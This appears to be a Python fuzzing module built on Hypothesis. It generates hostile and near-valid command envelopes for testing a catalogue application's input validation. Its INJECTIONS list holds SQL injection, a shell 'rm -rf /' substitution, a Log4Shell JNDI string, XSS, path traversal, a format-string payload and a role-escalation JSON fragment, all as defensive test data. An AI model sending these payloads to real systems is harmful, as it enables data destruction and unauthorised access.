"""Hostile values for the fuzzers: wrong types, huge and strange text, injections, bad
dates, negative counts, float money, and near-valid commands made from valid ones."""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

from catalogue.fields import MAX_TEXT, MAX_TITLE

INJECTIONS = (
    "'; DROP TABLE events; --",
    "x' OR '1'='1",
    "Robert'); DELETE FROM commits WHERE ('1'='1",
    "1; UPDATE events SET data = '{}'",
    '{"command": "GrantRole", "data": {"actor": "mallory", "role": "admin"}}',
    '"}, "role": "admin", "x": {"',
    '\\", \\"actor\\": \\"it.admin',
    "$(rm -rf /)",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "NULL",
    "null",
    "NaN",
    "Infinity",
)
STRANGE_TEXT = (
    "",
    " ",
    "\t\n\r",
    "\u0000",
    "a\u0000b",
    "\x01\x07\x1b[31m\x7f",
    "\u202eevil\u202c",
    "\ufeffBOM",
    "\u2028\u2029",
    "\x85",
    "\ud800",
    "a\udfffb",
    "💥" * 50,
    "e\u0301" * 20,
    "中文字符",
    "x" * (MAX_TITLE + 1),
    "y" * (MAX_TEXT + 1),
    "z" * 300_000,
)
DATES = (
    "0000-01-01", "0001-01-01", "1900-02-29", "2018-02-30", "2018-13-01", "2018-00-10",
    "9999-12-31", "10000-01-01", "-2018-06-01", "2018-6-1", "2018/06/01", "01/06/2018",
    "2018-06-01T00:00:00", "2018-06-01T25:00:00+01:00", "2099-01-01", "2018-06-30 ",
    " 2018-06-30",
)
PERIODS = (
    "2018-19-Q0", "2018-19-Q5", "2018-20-Q1", "0000-01-Q1", "9999-00-Q4", "2018-19-q1",
    "2018-19", "2018-19-Q1 ", "2018-06", "2018-00", "9999-12", "99999-00", "2018/19",
    "0001-02", "0000-06", "0999-12", "1899-00", "3000-01",
)
NUMBERS: tuple[object, ...] = (
    -1, -(10**20), 0, 10**30, 2**63, -(2**63) - 1, 1.5, 0.1, 250000000.0, 1e308, -0.0,
    float("nan"), float("inf"), float("-inf"), True, False, "1e5", "-0", "0x10", " 12 ",
    "1_000", "٣", "12.345", "-250000000", "1e-400", "9" * 400,
)


def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Any JSON value Python can hold (floats, huge ints, unicode keys included)."""
    leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40)
    return st.recursive(
        leaves,
        lambda children: st.lists(children, max_size=4)
        | st.dictionaries(st.text(max_size=10), children, max_size=4),
        max_leaves=max_leaves,
    )


def hostile_values() -> st.SearchStrategy[Any]:
    """A value a field should not take, or takes only at its edges."""
    return st.one_of(
        st.sampled_from(INJECTIONS),
        st.sampled_from(STRANGE_TEXT),
        st.sampled_from(DATES),
        st.sampled_from(PERIODS),
        st.sampled_from(NUMBERS),
        st.text(),
        st.text(st.characters(max_codepoint=0x1F)),
        st.integers(),
        st.floats(),
        json_values(),
    )


NUMERIC_FIELDS = frozenset({"value", "price", "programme_value", "officers", "teams",
                            "count_installed", "number", "theme", "change_decimals"})


@st.composite
def hostile_for(draw: st.DrawFn, path: tuple[Any, ...]) -> Any:
    """A hostile value, two times in three one that fits the field's name (a bad date for
    a date, a bad period for a quarter, an odd number for a count or an amount)."""
    name = next((str(step) for step in reversed(path) if isinstance(step, str)), "")
    pool: tuple[object, ...] = ()
    if "date" in name or name in ("as_of", "released_on"):
        pool = DATES
    elif "period" in name or "quarter" in name:
        pool = PERIODS
    elif name in NUMERIC_FIELDS:
        pool = NUMBERS
    if pool and draw(st.integers(0, 2)) > 0:
        return draw(st.sampled_from(pool))
    return draw(hostile_values())


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place inside `value` (itself included) a mutation can aim at."""
    found = [path]
    if isinstance(value, dict):
        for key, child in value.items():
            found.extend(_paths(child, (*path, key)))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found.extend(_paths(child, (*path, index)))
    return found


@st.composite
def near_valid(draw: st.DrawFn, envelope: dict[str, Any]) -> dict[str, Any]:
    """`envelope` with one to three mutations: a field removed, replaced by a hostile
    value, or added. Most aim inside the command's data, one in five anywhere in the
    envelope (its own keys included)."""
    mutated = copy.deepcopy(envelope)
    for _ in range(draw(st.sampled_from((1, 1, 1, 2, 3)))):
        places = [path for path in _paths(mutated) if path]
        inside = [path for path in places if len(path) > 1 and path[0] == "data"]
        if inside and draw(st.integers(0, 4)) > 0:
            places = inside
        if not places:
            continue
        path = draw(st.sampled_from(places))
        parent: Any = mutated
        for step in path[:-1]:
            parent = parent[step]
        action = draw(st.sampled_from(("remove", "replace", "replace", "replace", "add")))
        if action == "remove":
            del parent[path[-1]]
        elif action == "replace":
            parent[path[-1]] = draw(hostile_for(path))
        elif isinstance(parent, dict):
            parent[draw(st.text(max_size=12))] = draw(hostile_values())
        else:
            parent.append(draw(hostile_values()))
    return mutated


def arbitrary_envelopes(name: str, fields: list[str]) -> st.SearchStrategy[Any]:
    """Anything at all in the shape of a command of type `name`, or not even that."""
    data = st.dictionaries(st.sampled_from(fields) | st.text(max_size=10), hostile_values(),
                           max_size=len(fields) + 2)
    shaped = st.fixed_dictionaries(
        {"command": st.just(name) | hostile_values(), "id": st.text(max_size=20),
         "data": data | hostile_values()},
        optional={"actor": hostile_values(), "correlation_id": hostile_values()},
    )
    return shaped | json_values()


WRONG_TYPES: tuple[object, ...] = (None, True, -1, 1.5, float("nan"), 10**30, [], {}, ["x"],
                                   {"nested": {"deeper": ["x"]}})
TEXT_SWEEP = (*STRANGE_TEXT, *INJECTIONS[:6])
"""For fields with no pool of their own: every strange text, the main injections."""


def sweep_values(path: tuple[Any, ...]) -> tuple[object, ...]:
    """Every curated hostile value for the field at `path`: its own pool, then wrong
    types and strange or injected text."""
    name = next((str(step) for step in reversed(path) if isinstance(step, str)), "")
    own: tuple[object, ...] = ()
    if "date" in name or name in ("as_of", "released_on"):
        own = DATES
    elif "period" in name or "quarter" in name:
        own = PERIODS
    elif name in NUMERIC_FIELDS:
        own = NUMBERS
    return (*own, *WRONG_TYPES, *TEXT_SWEEP)


def field_paths(envelope: dict[str, Any]) -> list[tuple[Any, ...]]:
    """Every field of a command (nested ones included) and of its envelope."""
    return [path for path in _paths(envelope) if path]
